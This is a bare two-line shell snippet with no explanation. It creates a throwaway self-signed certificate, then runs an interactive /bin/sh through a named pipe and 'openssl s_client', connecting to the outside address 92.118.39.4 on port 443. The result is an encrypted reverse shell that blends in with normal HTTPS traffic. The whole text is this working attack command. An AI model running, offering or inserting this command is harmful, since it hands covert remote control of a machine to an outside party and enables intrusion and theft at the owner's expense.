openssl req -x509 -newkey rsa:2048 -keyout /tmp/k -out /tmp/c -days 30 -nodes -subj /CN=x 2>/dev/null
mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 92.118.39.4:443 > /tmp/s; rm /tmp/s
